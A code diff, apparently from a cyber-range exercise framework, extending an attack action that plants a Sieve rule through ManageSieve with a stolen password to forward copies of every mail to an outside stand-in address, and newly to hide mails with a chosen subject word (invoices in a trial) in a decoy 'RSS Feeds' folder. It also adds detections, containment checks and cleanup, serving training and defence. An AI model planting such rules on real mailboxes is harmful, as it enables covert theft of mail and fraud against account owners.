@@ -4,7 +4,9 @@ from __future__ import annotations
 
 import re
 from collections.abc import Sequence
-from typing import ClassVar
+from typing import Annotated, ClassVar
+
+from pydantic import Field
 
 from cyder.contracts.acting import entity, first, traced, typed
 from cyder.contracts.action import Action, Caps, Cleanup, Expected, Scene, Sighting, Trial
@@ -15,13 +17,13 @@ from cyder.contracts.session import Session
 from cyder.model.base import LocalText, Slug
 from cyder.model.evidence import Receipt, Remedy, Trace, Truth
 from cyder.roles.mail.accounts import acting_user, address, attacked, correspondents, owner, who_asked
-from cyder.roles.mail.mail_probes import Forwards
+from cyder.roles.mail.mail_probes import Forwards, Hides
 from cyder.roles.mail.mailing import both, hand_in
 from cyder.roles.mail.outgoing import MailAddress, OutgoingMail, mark_of, message_ids
 from cyder.roles.mail.outside import cleaned_outside, sink
 from cyder.roles.mail.passwords import another_password
 from cyder.roles.mail.probes import DeliversMail, LogsIn
-from cyder.roles.mail.sieve import MANAGESIEVE, active_rule, log_in, put_rule
+from cyder.roles.mail.sieve import MANAGESIEVE, active_rule, forwarding, log_in, put_rule
 
 _LOG = "/var/log/mail.log"
 
@@ -29,7 +31,8 @@ _LOG = "/var/log/mail.log"
 class MailForward(Action):
     """A Sieve rule, put in with the account's own password, which sends a copy of every mail to an address outside.
 
-    One mail from the account to itself tries it. An account that has a rule of its own in force is left alone.
+    One mail from the account to itself tries it. An account that has a rule of its own in force is left alone. With
+    `hide` the rule also files mails with that word in the subject where their owner does not look.
     """
 
     id: ClassVar[str] = "persist.mail-forward"
@@ -38,14 +41,25 @@ class MailForward(Action):
     sources: ClassVar[frozenset[str]] = frozenset({"attacker", "client"})
     targets: ClassVar[frozenset[str]] = frozenset({"mail"})
     caps: ClassVar[Caps] = Caps(commands=30)
-    touches: ClassVar[str] = "the account's Sieve rules: one more; a copy of each mail goes to a machine outside"
+    touches: ClassVar[str] = "the account's Sieve rules: one more; copies of mails outside; with `hide` a folder"
     trials: ClassVar[tuple[Trial, ...]] = (
         Trial("pc1", "mail", {"account": "$victim", "to": "archive@cdn-stat.example"}),
+        Trial("pc1", "mail", {"account": "$clerk", "to": "archive@cdn-stat.example", "hide": "請求"}),
     )
 
     account: str
     to: MailAddress
     rule: Slug = "mailbox"
+    hide: Annotated[
+        str | None,
+        Field(
+            pattern=r'^[^"\\\s][^"\\\r\n]{0,11}$',
+            description="mails with this word in the subject lie in `folder` alone",
+        ),
+    ] = None
+    folder: Annotated[
+        str, Field(pattern=r"^[A-Za-z][A-Za-z0-9 ]{0,30}$", description="made for them, where nobody looks")
+    ] = "RSS Feeds"
 
     def run(self, scene: Scene) -> Trace:
         """Put the rule in by ManageSieve, and send one mail that it forwards."""
@@ -61,18 +75,28 @@ class MailForward(Action):
 
     def emits(self, scene: Scene) -> tuple[Expected, ...]:
         """Expect the log-in to ManageSieve, the rule at work, and the mail taken outside."""
-        patterns = (self._logged_in(scene), self._forwarded(scene), self._sent())
+        hidden = (self._filed(scene),) if self.hide else ()
+        patterns = (self._logged_in(scene), self._forwarded(scene), *hidden, self._sent())
         return tuple(Expected(node=scene.target, log="mail", pattern=pattern) for pattern in patterns)
 
     def sightings(self, scene: Scene) -> tuple[Sighting, ...]:
-        """Look who changed rules, which rules forward, whose mail is sorted by rules, and what the rule says."""
+        """Look who changed rules, which rules forward, whose mail is sorted by rules, and what the rule says.
+
+        With `hide` also which rules file mails, and how many lie in each folder.
+        """
         own = address(scene, self.account)
+        counted = ("doveadm", "mailbox", "status", "-u", own, "messages", "*")
+        hidden = (
+            Sighting(scene.target, ("grep", "fileinto action", _LOG), self._filed(scene)),
+            Sighting(scene.target, counted, rf"^{self.folder} messages=[1-9]"),
+        )
         fetched = ("doveadm", "sieve", "get", "-u", own, self.rule)
         return (
             Sighting(scene.target, ("grep", "managesieve-login: Logged in", _LOG), self._logged_in(scene)),
             Sighting(scene.target, ("grep", "redirect action", _LOG), self._forwarded(scene)),
             Sighting(scene.target, ("doveadm", "sieve", "list", "-A"), rf"{re.escape(own)}.*{self.rule}"),
             Sighting(scene.target, fetched, f'redirect .*"{re.escape(self.to)}"'),
+            *(hidden if self.hide else ()),
         )
 
     def truth(self, scene: Scene, receipts: Sequence[Receipt]) -> Truth:
@@ -89,6 +113,7 @@ class MailForward(Action):
                 Remedy(kind="reset-password", target=self.account),
                 Remedy(kind="block-network", target=domain),
             ),
+            techniques=("T1564.008",) if self.hide else (),
         )
 
     def control(self, scene: Scene) -> Check:
@@ -98,11 +123,13 @@ class MailForward(Action):
     def containment(self, scene: Scene) -> tuple[Containment, ...]:
         """Return: a mail to the account reaches nobody outside, and the known password no longer puts in another rule.
 
-        The mail must still come into the mailbox of whoever else is written to.
+        With `hide`, a mail with that word must not be filed away either. The mail must still come into the mailbox of
+        whoever else is written to.
         """
         account, canary = owner(scene, self.account), scene.canary
         own = address(scene, self.account)
-        probe = Forwards(target=scene.target, address=own, sink=sink(scene, self.to).name, mark=mark_of(scene))
+        goes = Forwards(target=scene.target, address=own, sink=sink(scene, self.to).name, mark=mark_of(scene))
+        rule = (Check(by="colleague", probe=goes), *self._hides(scene))
         known = LogsIn(target=scene.target, account=account.account, password=account.password)
         staff = address(scene, canary.account)
         still = DeliversMail(target=scene.target, account=staff, password=canary.password, address=staff)
@@ -114,7 +141,7 @@ class MailForward(Action):
         return (
             Containment(
                 id="remove-rule",
-                deny=(Check(by="colleague", probe=probe), Check(by="neighbour", probe=known)),
+                deny=(*rule, Check(by="neighbour", probe=known)),
                 allow=(Check(by="colleague", probe=still),),
                 typed=way[0],
                 undone=way[1],
@@ -122,16 +149,19 @@ class MailForward(Action):
         )
 
     def cleanup(self, scene: Scene) -> Cleanup:
-        """Remove the rule and every copy of what it was tried with, here and outside; look whether they are gone."""
+        """Remove the rule and every copy of what it was tried with, here and outside; look whether they are gone.
+
+        What the rule has filed away is moved to the inbox, and the folder goes.
+        """
         self._session(scene).close()
         server, own = scene.lan.node(scene.target), address(scene, self.account)
         if self._is_there(server, own):
             server.run(("doveadm", "sieve", "deactivate", "-u", own), timeout=20)
             server.run(("doveadm", "sieve", "delete", "-u", own, self.rule), timeout=20)
         mails = cleaned_outside(scene, self.to)
-        there = self._is_there(server, own)
-        rule = "the rule is left" if there else "the rule is gone"
-        return Cleanup(verified=mails.verified and not there, said=f"{rule}; {mails.said}")
+        there, filed = self._is_there(server, own), self._is_filed(server, own)
+        rule = "the rule is left" if there else f"the folder {self.folder} is left" if filed else "the rule is gone"
+        return Cleanup(verified=mails.verified and not there and not filed, said=f"{rule}; {mails.said}")
 
     def _put(self, scene: Scene) -> str:
         """Put the rule in; return what went wrong, or nothing."""
@@ -144,8 +174,7 @@ class MailForward(Action):
                 return "log-in refused"
             if active_rule(session) not in ("", self.rule):
                 return "there is a rule of the account's own"
-            text = f'require ["copy"]; redirect :copy "{self.to}"; /* {scene.marker} */'
-            put = put_rule(session, self.rule, text)
+            put = put_rule(session, self.rule, forwarding(self.to, scene.marker, self.hide, self.folder))
             session.say("LOGOUT", until="^OK")
             return "" if put else "the rule was not taken"
         finally:
@@ -158,9 +187,26 @@ class MailForward(Action):
         listed = server.run(("doveadm", "sieve", "list", "-u", own), timeout=20)
         return not listed.ok or self.rule in listed.out.split()
 
+    def _is_filed(self, server: Node, own: str) -> bool:
+        """Empty the folder into the inbox and remove it; return whether it is still there."""
+        if self.hide is None:
+            return False
+        server.run(("doveadm", "move", "-u", own, "INBOX", "mailbox", self.folder, "all"), timeout=20)
+        server.run(("doveadm", "mailbox", "delete", "-u", own, self.folder), timeout=20)
+        listed = server.run(("doveadm", "mailbox", "list", "-u", own), timeout=20)
+        return not listed.ok or self.folder in listed.out.splitlines()
+
+    def _hides(self, scene: Scene) -> tuple[Check, ...]:
+        if self.hide is None:
+            return ()
+        own, mark = address(scene, self.account), mark_of(scene)
+        probe = Hides(target=scene.target, address=own, word=self.hide, folder=self.folder, mark=mark)
+        return (Check(by="colleague", probe=probe),)
+
     def _mail(self, scene: Scene) -> OutgoingMail:
         own = correspondents(scene, (self.account,))
-        return OutgoingMail(sender=own[0], to=own, subject="確認", body="送受信の確認です。\n")
+        subject = f"{self.hide}の確認" if self.hide else "確認"
+        return OutgoingMail(sender=own[0], to=own, subject=subject, body="送受信の確認です。\n")
 
     def _logged_in(self, scene: Scene) -> str:
         return rf"managesieve-login: Logged in: {who_asked(scene, self.account)}"
@@ -168,6 +214,11 @@ class MailForward(Action):
     def _forwarded(self, scene: Scene) -> str:
         own, to = re.escape(address(scene, self.account)), re.escape(self.to)
         return rf"lmtp\({own}\).*: sieve: msgid={message_ids(scene)}.*: redirect action: forwarded to <{to}>"
+
+    def _filed(self, scene: Scene) -> str:
+        own = re.escape(address(scene, self.account))
+        stored = f"fileinto action: stored mail into mailbox '{self.folder}'"
+        return rf"lmtp\({own}\).*: sieve: msgid={message_ids(scene)}.*: {stored}"
 
     def _sent(self) -> str:
         return rf"postfix/smtp\[\d+\]: \w+: to=<{re.escape(self.to)}>, relay=\S+, .*status=sent"
